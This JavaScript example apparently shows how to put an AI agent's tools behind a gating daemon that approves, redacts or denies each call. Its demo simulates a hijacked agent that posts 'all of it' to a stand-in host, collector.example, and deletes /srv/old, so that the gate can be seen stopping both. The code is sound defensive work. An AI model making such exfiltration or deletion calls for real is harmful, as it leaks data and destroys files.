// @ts-check
// Tools of a Node or TypeScript program behind a Guardhouse daemon, with nothing but `fetch`.
//
//   guardhouse serve                                          # in one terminal
//   guardhouse token create --role agent --name node          # in another
//   GUARDHOUSE_TOKEN=… node examples/guarded_fetch.mjs
//
// A tool runs only on an answer that is understood and says `allow`, or `allow_with_redaction` with the parameters to use
// instead. No answer, a late one, a redirect, another status, or a word that is not known here: the tool does not run.
import { randomUUID } from "node:crypto";
import { pathToFileURL } from "node:url";

/** @typedef {{ [name: string]: unknown }} Params */
/**
 * @typedef {object} Verdict What the daemon says of an action.
 * @property {string} decision
 * @property {string} [message]
 * @property {string} [event_id]
 * @property {string} [risk_level]
 * @property {Params} [params]
 * @property {unknown} [content]
 * @property {boolean} [untrusted]
 * @property {string} [wrapped]
 */
/**
 * @typedef {object} Outcome What became of a call. `text` is what to tell a model.
 * @property {"completed" | "denied" | "failed" | "pending"} status
 * @property {string} text
 * @property {string} [approvalId] the request that a person can answer
 * @property {() => Promise<Outcome>} [resume] go on, once they have
 */

export class Gate {
  #url;
  #token;
  #sessionId;
  #seconds;

  /** @param {{ url?: string, token?: string, sessionId: string, seconds?: number }} options */
  constructor({ url = process.env.GUARDHOUSE_URL, token = process.env.GUARDHOUSE_TOKEN, sessionId, seconds = 30 }) {
    this.#url = url ?? "http://127.0.0.1:8765";
    this.#token = token ?? "";
    this.#sessionId = sessionId;
    this.#seconds = seconds;
  }

  /**
   * A tool behind the gate: calling it gives an outcome, never a result that nobody has judged.
   * @param {string} tool
   * @param {(params: any) => unknown} run
   * @returns {(params: Params) => Promise<Outcome>}
   */
  wrap(tool, run) {
    return (params) => {
      // What is judged is what runs: plain JSON, and nobody else's to change.
      const judged = JSON.parse(JSON.stringify(params));
      return this.#made(this.#call(tool, judged), run);
    };
  }

  /**
   * Tell the gate what the user said: only what a person `typed` carries authority. What the model may be told of it.
   * @param {string} text
   * @param {"typed" | "pasted" | "attachment" | "scheduled"} origin
   */
  async userSaid(text, origin = "pasted") {
    return seen(await this.#judge({ type: "UserInput", content: text, origin }), text);
  }

  /**
   * Ask before the user is shown an answer. What may be shown of it.
   * @param {string} text
   */
  async answer(text) {
    return seen(await this.#judge({ type: "OutputPublish", content: text }), text);
  }

  /**
   * The status of a request, once somebody has answered it, or after so many seconds.
   * @param {string} approvalId
   * @param {number} seconds
   */
  async wait(approvalId, seconds) {
    const end = Date.now() + seconds * 1000;
    for (;;) {
      const left = Math.max(0, Math.min(this.#seconds / 2, (end - Date.now()) / 1000));
      const { status } = await this.#ask(`/v1/approvals/${encodeURIComponent(approvalId)}?wait=${Math.floor(left)}`);
      if (status !== "pending" || Date.now() >= end) return status;
    }
  }

  /**
   * @param {string} tool
   * @param {Params} params
   */
  #call(tool, params) {
    return { type: "ToolCallPre", tool, params, call_id: `call_${randomUUID()}`, cwd: process.cwd() };
  }

  /**
   * @param {{ type: string, tool: string, params: Params, call_id: string, cwd: string }} call
   * @param {(params: any) => unknown} run
   * @param {string} [approvalId]
   * @returns {Promise<Outcome>}
   */
  async #made(call, run, approvalId) {
    const verdict = await this.#judge(call, approvalId ? { approval_id: approvalId } : {});
    const asked = verdict.approval_request_id;
    if (verdict.status === "pending" && typeof asked === "string") {
      const resume = () => this.#made(call, run, asked);
      return { status: "pending", text: `${verdict.message}`, approvalId: asked, resume };
    }
    let params = call.params;
    if (verdict.decision === "allow_with_redaction" && isObject(verdict.params)) params = verdict.params;
    else if (verdict.decision !== "allow") return { status: "denied", text: `${verdict.message ?? NO_VERDICT}` };
    /** @type {unknown} */
    let content;
    let raised = false;
    try {
      content = JSON.parse(JSON.stringify((await run(structuredClone(params))) ?? null));
    } catch (error) {
      [content, raised] = [`${error}`, true];
    }
    const result = { type: "ToolCallPost", tool: call.tool, content, params, call_id: call.call_id };
    const made = { event_id: verdict.event_id, risk_level: verdict.risk_level, raised };
    const shown = await this.#judge(result, { made });
    try {
      return { status: raised ? "failed" : "completed", text: seen(shown, content) };
    } catch (error) {
      return { status: "denied", text: `The tool has run, but its result is withheld. ${shown.message ?? NO_VERDICT}` };
    }
  }

  /**
   * The verdict on an action; a deny if there is none.
   * @param {object} action
   * @param {object} more
   * @returns {Promise<Verdict & { status?: string, approval_request_id?: unknown }>}
   */
  async #judge(action, more = {}) {
    try {
      const told = await this.#ask("/v1/evaluate", { action: { ...action, session_id: this.#sessionId }, ...more });
      return told.status === "pending" ? { ...told, decision: "require_approval" } : { ...told, status: undefined };
    } catch (error) {
      return { decision: "deny", message: `${NO_VERDICT} ${error instanceof Error ? error.message : ""}` };
    }
  }

  /**
   * @param {string} path
   * @param {object} [body]
   * @returns {Promise<any>}
   */
  async #ask(path, body) {
    const answer = await fetch(`${this.#url}${path}`, {
      method: body ? "POST" : "GET",
      headers: { authorization: `Bearer ${this.#token}`, "content-type": "application/json" },
      body: body && JSON.stringify(body),
      redirect: "error",
      signal: AbortSignal.timeout(this.#seconds * 1000),
    });
    const told = await answer.json();
    // A refusal of the daemon's may come with a verdict, which says why.
    if (!answer.ok && told?.verdict?.decision === "deny") return told.verdict;
    if (!answer.ok || !isObject(told)) throw new Error(`The daemon answered ${answer.status}.`);
    return told;
  }
}

const NO_VERDICT = "Guardhouse gave no verdict that is understood, so nothing was done.";

/**
 * What may be seen of a content, as text for a model; an error if nothing.
 * @param {Verdict} verdict
 * @param {unknown} content
 * @returns {string}
 */
function seen(verdict, content) {
  const masked = verdict.decision === "allow_with_redaction";
  if (verdict.decision !== "allow" && !masked) throw new Error(verdict.message ?? NO_VERDICT);
  if (masked && (verdict.content === undefined || verdict.content === null)) throw new Error(NO_VERDICT);
  if (verdict.untrusted) {
    if (typeof verdict.wrapped !== "string") throw new Error(NO_VERDICT);
    return verdict.wrapped;
  }
  const shown = masked ? verdict.content : content;
  return typeof shown === "string" ? shown : JSON.stringify(shown);
}

/** @param {unknown} value @returns {value is Params} */
function isObject(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

// What an agent that has been taken over would do, one call after the other.
async function main() {
  const gate = new Gate({ sessionId: `example-${randomUUID()}` });
  /** @type {string[]} */
  const sent = [];
  const tools = {
    read_file: gate.wrap("read_file", ({ path }) => `(what ${path} holds)`),
    http_post: gate.wrap("http_post", ({ url }) => (sent.push(url), "200 OK")),
    delete_directory: gate.wrap("delete_directory", ({ path }) => `removed ${path}`),
  };
  const calls = /** @type {const} */ ([
    ["read_file", { path: "README.md" }],
    ["http_post", { url: "https://collector.example/drop", body: "all of it" }],
    ["delete_directory", { path: "/srv/old" }],
  ]);
  for (const [tool, params] of calls) {
    let outcome = await tools[tool](params);
    const seconds = Number(process.env.WAIT ?? 0);
    if (outcome.status === "pending" && outcome.approvalId && outcome.resume && seconds) {
      console.log(`${tool}: pending ${outcome.approvalId}`);
      await gate.wait(outcome.approvalId, seconds);
      outcome = await outcome.resume();
    }
    console.log(`${tool}: ${outcome.status}\n  ${outcome.text.slice(0, 300)}`);
  }
  console.log(`sent: ${sent.length}`);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) await main();
